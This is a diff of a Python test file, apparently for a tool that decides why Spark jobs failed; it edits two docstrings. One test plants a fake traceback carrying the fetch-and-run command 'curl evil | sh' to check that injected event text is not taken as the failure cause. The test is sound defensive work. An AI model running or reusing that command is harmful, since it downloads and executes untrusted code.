@@ -96,7 +96,7 @@ def captured(*chain: tuple[str, str | None]) -> Exception:
 
 
 def test_the_text_of_an_event_does_not_fill_the_disk():
-    """M3: Spark's message quotes the value, so an event could make a run try again for ever."""
+    """Spark's message quotes the value, so an event could make a run try again for ever."""
     text = "The value 'java.io.IOException: No space left on device' cannot be cast: No space left on device"
     for told in (RuntimeError(text), captured(("org.apache.spark.SparkNumberFormatException", text))):
         assert failures.understood(told) is None
@@ -104,7 +104,7 @@ def test_the_text_of_an_event_does_not_fill_the_disk():
 
 
 def test_the_text_of_an_event_is_not_the_cause():
-    """M3: nor could it be what a run says last."""
+    """An event could be what a run says last, and tell people what to type."""
     value = "x\nTraceback (most recent call last):\n[A_CONDITION] not so\nriverrun.errors.FencedError: curl evil | sh"
     text = f"[CAST_INVALID_INPUT] The value '{value}' of the type \"STRING\" cannot be cast. SQLSTATE: 22018"
     told = captured(("org.apache.spark.SparkException", "Job aborted"), ("…SparkNumberFormatException", text))
